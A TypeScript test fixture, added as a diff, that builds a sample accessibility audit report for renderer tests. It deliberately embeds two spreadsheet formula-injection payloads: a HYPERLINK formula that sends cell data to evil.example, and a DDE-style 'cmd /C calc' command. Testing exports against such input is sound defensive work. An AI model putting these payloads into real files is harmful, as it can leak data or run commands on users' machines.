@@ -1,0 +1,270 @@
+/**
+ * A report object built in memory, for renderer tests and the rendering bench: no database.
+ * Page texts include formula-injection attempts, as hostile pages would.
+ */
+import type {
+  CriterionResult,
+  DiffRow,
+  IssueGroup,
+  IssueRow,
+  Report,
+  ReportKind,
+  ReportPage,
+  SeverityCounts,
+  TrendPoint,
+} from '../../src/reports/report-model.ts';
+import { SEVERITIES, type Severity } from '../../src/shared/contracts.ts';
+import { WCAG22_A_AA } from '../../src/shared/wcag.ts';
+
+export const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+export const HOSTILE_LINK_TEXT = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+
+const RULES: Array<{ ruleId: string; title: string; sc: string; severity: Severity; type: 'confirmed' | 'needs_review' }> = [
+  { ruleId: 'image-alt', title: 'Images must have alternative text', sc: '1.1.1', severity: 'critical', type: 'confirmed' },
+  { ruleId: 'color-contrast', title: 'Elements must meet minimum color contrast ratio thresholds', sc: '1.4.3', severity: 'serious', type: 'confirmed' },
+  { ruleId: 'link-name', title: 'Links must have discernible text', sc: '2.4.4', severity: 'serious', type: 'confirmed' },
+  { ruleId: 'label', title: 'Form elements must have labels', sc: '4.1.2', severity: 'critical', type: 'confirmed' },
+  { ruleId: 'target-size', title: 'All touch targets must be 24px large, or leave sufficient space', sc: '2.5.8', severity: 'serious', type: 'confirmed' },
+  { ruleId: 'link-text-generic', title: 'Link text must describe the destination', sc: '2.4.4', severity: 'moderate', type: 'needs_review' },
+  { ruleId: 'region', title: 'All page content should be contained by landmarks', sc: '1.3.1', severity: 'moderate', type: 'confirmed' },
+  { ruleId: 'html-has-lang', title: '<html> element must have a lang attribute', sc: '3.1.1', severity: 'serious', type: 'confirmed' },
+];
+
+function counts(parts: Partial<Record<Severity, number>>): SeverityCounts {
+  const c = { critical: parts.critical ?? 0, serious: parts.serious ?? 0, moderate: parts.moderate ?? 0, minor: parts.minor ?? 0 };
+  return { ...c, total: c.critical + c.serious + c.moderate + c.minor };
+}
+
+const principleOf = (sc: string) => (['Perceivable', 'Operable', 'Understandable', 'Robust'] as const)[Number(sc[0]) - 1]!;
+
+export interface SampleReportOptions {
+  kind?: ReportKind;
+  pages?: number;
+  issuesPerPage?: number;
+  crawls?: number;
+}
+
+/** A deterministic report: `pages` pages, `issuesPerPage` issues each, cycling through the rules above. */
+export function sampleReport(opts: SampleReportOptions = {}): Report {
+  const kind = opts.kind ?? 'crawl';
+  const nPages = kind === 'scan' ? 1 : (opts.pages ?? 12);
+  const perPage = opts.issuesPerPage ?? 9;
+  const origin = 'https://www.example.org';
+  const pageUrl = (i: number) => (i === 0 ? `${origin}/` : `${origin}/docs/page-${i}.html`);
+  const pageTitle = (i: number) => (i === 1 ? HOSTILE_TITLE : i === 0 ? 'Example home' : `Documentation page ${i}`);
+
+  const rowFor = (p: number, k: number): IssueRow => {
+    const rule = RULES[(p + k) % RULES.length]!;
+    const linkText = p === 1 && k === 0 ? HOSTILE_LINK_TEXT : `Read more ${k}`;
+    return {
+      id: `00000000-0000-4000-8000-${String(p * 1000 + k).padStart(12, '0')}`,
+      pageUrl: pageUrl(p),
+      pageTitle: pageTitle(p),
+      ruleId: rule.ruleId,
+      wcagCriterion: rule.sc,
+      wcagLevel: WCAG22_A_AA.find((s) => s.id === rule.sc)!.level,
+      severity: rule.severity,
+      type: rule.type,
+      status: k === 3 ? 'dismissed' : 'open',
+      selector: p === 1 && k === 0 ? HOSTILE_LINK_TEXT : `main > section:nth-child(${k + 1}) > a`,
+      html: `<a href="/x/${k}" class="more">${linkText}</a>`,
+      description: `${rule.title}. Screen-reader users cannot tell where this link goes.`,
+      fixSuggestion: `Give the element a text that names its purpose, e.g. <a href="/x/${k}">Read the installation guide</a>.`,
+      helpUrl: `https://dequeuniversity.com/rules/axe/4.14/${rule.ruleId}`,
+      alsoFlaggedBy: k === 2 ? ['target-size-mobile'] : [],
+      firstSeenAt: new Date('2026-11-01T10:00:00Z'),
+      lastSeenAt: new Date('2026-11-20T10:00:00Z'),
+    };
+  };
+
+  const pages: ReportPage[] = [];
+  for (let p = 0; p < nPages; p++) {
+    const failed = kind === 'crawl' && p === nPages - 1 && nPages > 3;
+    const bySev: Partial<Record<Severity, number>> = {};
+    if (!failed) for (let k = 0; k < perPage; k++) bySev[RULES[(p + k) % RULES.length]!.severity] = (bySev[RULES[(p + k) % RULES.length]!.severity] ?? 0) + 1;
+    pages.push({
+      url: pageUrl(p),
+      title: failed ? null : pageTitle(p),
+      score: failed ? null : Math.max(5, 92 - ((p * 7) % 60)),
+      state: failed ? 'failed' : 'scanned',
+      error: failed ? { code: 'timeout', message: 'the page did not finish loading within 30 s' } : null,
+      counts: counts(bySev),
+    });
+  }
+  pages.sort((a, b) => (a.score ?? 101) - (b.score ?? 101) || a.url.localeCompare(b.url));
+  const scanned = pages.filter((p) => p.state === 'scanned');
+  const totalIssues = scanned.length * perPage;
+
+  const groups: IssueGroup[] = RULES.map((r, i) => ({
+    ruleId: r.ruleId,
+    title: r.title,
+    wcagCriterion: r.sc,
+    criterionTitle: WCAG22_A_AA.find((s) => s.id === r.sc)!.title,
+    wcagLevel: WCAG22_A_AA.find((s) => s.id === r.sc)!.level,
+    principle: principleOf(r.sc),
+    severity: r.severity,
+    type: r.type,
+    elements: Math.ceil(totalIssues / RULES.length),
+    pages: Math.min(scanned.length, 3 + i),
+    description: `${r.title}. People using screen readers or keyboards are affected.`,
+    fixSuggestion: `Fix the ${r.ruleId} problem at its source: the page template. For example <img src="logo.png" alt="Example Org home">.`,
+    enrichedBy: i % 2 === 0 ? 'offline' : null,
+    helpUrl: `https://dequeuniversity.com/rules/axe/4.14/${r.ruleId}`,
+    examples: [0, 1, 2].slice(0, Math.min(3, scanned.length)).map((k) => ({
+      pageUrl: pageUrl(k),
+      selector: k === 1 ? HOSTILE_LINK_TEXT : `#main > p:nth-child(${k + 2}) > img`,
+      html: `<img src="/img/${k}.png" class="hero">`,
+    })),
+    examplePages: scanned.slice(0, 5).map((p) => p.url),
+  }));
+  const sevRank = (s: Severity) => SEVERITIES.indexOf(s);
+  groups.sort((a, b) => sevRank(a.severity) - sevRank(b.severity) || b.pages - a.pages || b.elements - a.elements);
+
+  const failingSc = new Map<string, { confirmed: boolean; rules: string[] }>();
+  for (const r of RULES) {
+    const e = failingSc.get(r.sc) ?? { confirmed: false, rules: [] };
+    e.confirmed ||= r.type === 'confirmed';
+    e.rules.push(r.ruleId);
+    failingSc.set(r.sc, e);
+  }
+  const criteria: CriterionResult[] = WCAG22_A_AA.map((sc, i) => {
+    const f = failingSc.get(sc.id);
+    return {
+      id: sc.id,
+      title: sc.title,
+      level: sc.level,
+      principle: principleOf(sc.id),
+      result: f ? (f.confirmed ? 'fails' : 'needs_review') : i % 3 === 0 ? 'passed' : 'not_checked',
+      rules: f?.rules ?? [],
+      issues: f ? Math.ceil(totalIssues / RULES.length) * f.rules.length : 0,
+      pages: f ? scanned.length : 0,
+    };
+  });
+
+  const bySeverity = counts(
+    Object.fromEntries(SEVERITIES.map((s) => [s, groups.filter((g) => g.severity === s).reduce((n, g) => n + g.elements, 0)])),
+  );
+  const trend: TrendPoint[] =
+    kind === 'crawl'
+      ? Array.from({ length: opts.crawls ?? 5 }, (_, i) => ({
+          crawlId: `10000000-0000-4000-8000-00000000000${i}`,
+          completedAt: new Date(Date.UTC(2026, 9, 1 + i * 7)),
+          overallScore: 48 + i * 6,
+          counts: counts({ critical: 40 - i * 5, serious: 80 - i * 7, moderate: 30, minor: 4 }),
+          newIssues: i === 0 ? 154 : 10 + i,
+          fixedIssues: i === 0 ? 0 : 20 + i,
+        }))
+      : [];
+
+  const diffRows = (change: 'new' | 'fixed', n: number): DiffRow[] =>
+    Array.from({ length: n }, (_, i) => {
+      const r = RULES[i % RULES.length]!;
+      return {
+        id: `20000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
+        pageUrl: pageUrl(i % nPages),
+        ruleId: r.ruleId,
+        wcagCriterion: r.sc,
+        wcagLevel: WCAG22_A_AA.find((s) => s.id === r.sc)!.level,
+        severity: r.severity,
+        type: r.type,
+        selector: i === 0 ? HOSTILE_LINK_TEXT : `#item-${i}`,
+        at: new Date('2026-11-20T10:00:00Z'),
+        change,
+      };
+    });
+  const byRule = (rows: DiffRow[]) =>
+    RULES.map((r) => ({ ruleId: r.ruleId, title: r.title, wcagCriterion: r.sc, severity: r.severity, count: rows.filter((x) => x.ruleId === r.ruleId).length })).filter(
+      (x) => x.count > 0,
+    );
+  const newList = diffRows('new', 14);
+  const fixedList = diffRows('fixed', 23);
+
+  return {
+    kind,
+    title: `Accessibility report: ${kind === 'scan' ? pageUrl(0) : 'www.example.org'}`,
+    lang: 'en',
+    generatedAt: new Date('2026-11-23T09:30:00Z'),
+    target: {
+      kind,
+      id: '30000000-0000-4000-8000-000000000001',
+      hostname: 'www.example.org',
+      url: kind === 'scan' ? pageUrl(0) : `${origin}/`,
+      name: kind === 'scan' ? pageTitle(0) : 'www.example.org',
+      status: kind === 'crawl' && nPages > 3 ? 'completed_partial' : 'completed',
+      startedAt: new Date('2026-11-23T09:00:00Z'),
+      completedAt: new Date('2026-11-23T09:12:34Z'),
+      durationMs: 754_000,
+      standard: 'WCAG 2.2 Level A and AA',
+      engine: 'axe-core 4.14.1 with the service\u2019s own checks',
+      browser: 'Chromium (headless), 1280\u00d7800, with a 390 px mobile pass',
+      crawl:
+        kind === 'crawl'
+          ? { maxPages: 1000, totalPages: nPages, scannedPages: scanned.length, failedPages: nPages - scanned.length, enrichedPages: scanned.length, brokenLinks: 2 }
+          : null,
+    },
+    summary: {
+      score: Math.round(scanned.reduce((n, p) => n + (p.score ?? 0), 0) / Math.max(1, scanned.length)),
+      scoreFormula:
+        'Each page scores round(100 \u00d7 \u220f(1 \u2212 w)) over its failing rules, w = 0.20 critical, 0.12 serious, 0.06 moderate, 0.02 minor (a quarter of that when the rule only needs review); the site scores the mean of its pages.',
+      text: `The ${kind === 'scan' ? 'page' : 'site'} has ${totalIssues} automated findings across ${groups.length} rules. Start with images without alternative text and form fields without labels.`,
+      issues: totalIssues,
+      pagesAffected: scanned.length,
+      pagesScanned: scanned.length,
+      bySeverity,
+      byType: { confirmed: Math.round(totalIssues * 0.8), needs_review: totalIssues - Math.round(totalIssues * 0.8) },
+      byPrinciple: {
+        Perceivable: groups.filter((g) => g.principle === 'Perceivable').reduce((n, g) => n + g.elements, 0),
+        Operable: groups.filter((g) => g.principle === 'Operable').reduce((n, g) => n + g.elements, 0),
+        Understandable: groups.filter((g) => g.principle === 'Understandable').reduce((n, g) => n + g.elements, 0),
+        Robust: groups.filter((g) => g.principle === 'Robust').reduce((n, g) => n + g.elements, 0),
+      },
+      change: kind === 'crawl' ? { newIssues: newList.length, fixedIssues: fixedList.length, persisting: totalIssues - newList.length, previousScore: 66 } : null,
+    },
+    topPriorities: groups.slice(0, 5).map((g) => ({
+      title: g.title,
+      ruleId: g.ruleId,
+      severity: g.severity,
+      wcagCriterion: g.wcagCriterion,
+      elements: g.elements,
+      pages: g.pages,
+      reason: `${g.severity} and on ${g.pages} pages`,
+    })),
+    positiveFindings: [
+      { title: 'Buttons have discernible text', detail: '41 elements checked and passing.', wcagCriterion: '4.1.2' },
+      { title: 'Document has a title', detail: 'Every scanned page has a title.', wcagCriterion: '2.4.2' },
+    ],
+    criteria,
+    groups,
+    pages,
+    pagesTotal: pages.length,
+    failedPages: pages.filter((p) => p.state === 'failed').map((p) => ({ url: p.url, code: p.error!.code, message: p.error!.message })),
+    diff:
+      kind === 'crawl'
+        ? {
+            previous: { id: '10000000-0000-4000-8000-000000000003', completedAt: new Date('2026-11-16T10:00:00Z'), overallScore: 66 },
+            newIssues: newList.length,
+            fixedIssues: fixedList.length,
+            newByRule: byRule(newList),
+            fixedByRule: byRule(fixedList),
+            async *newRows() {
+              yield newList;
+            },
+            async *fixedRows() {
+              yield fixedList;
+            },
+          }
+        : null,
+    trend,
+    async *issueRows() {
+      const batch: IssueRow[] = [];
+      for (let p = 0; p < nPages; p++) {
+        if (pages.find((x) => x.url === pageUrl(p))?.state === 'failed') continue;
+        for (let k = 0; k < perPage; k++) {
+          batch.push(rowFor(p, k));
+          if (batch.length >= 1000) yield batch.splice(0);
+        }
+      }
+      if (batch.length) yield batch;
+    },
+  };
+}
